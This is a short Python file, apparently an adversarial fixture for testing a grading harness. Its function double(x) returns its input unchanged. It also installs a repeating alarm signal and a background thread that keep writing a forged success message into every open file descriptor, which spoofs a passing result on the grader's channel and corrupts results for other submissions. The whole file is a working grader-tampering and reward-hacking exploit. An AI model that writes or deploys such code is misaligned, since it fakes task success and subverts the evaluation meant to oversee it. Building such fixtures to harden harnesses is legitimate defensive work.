"""Harms others: timers, alarms and threads that go off between two questions and after the last one, and write into the line to the grader."""

import os
import signal
import threading
import time

LINES = [number for number in range(3, 64) if os.path.exists(f"/proc/self/fd/{number}")] or list(range(3, 12))


def spoil(*_):
    for number in LINES:
        try:
            os.write(
                number, b"\x40\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00" + b'{"value":{"d":{"ok":true}},"arrays":[]}'
            )
        except OSError:
            pass


def late():
    while True:
        time.sleep(0.01)
        spoil()


def double(x):
    signal.signal(signal.SIGALRM, spoil)
    signal.setitimer(signal.ITIMER_REAL, 0.005, 0.005)
    threading.Thread(target=late, daemon=True).start()
    return x
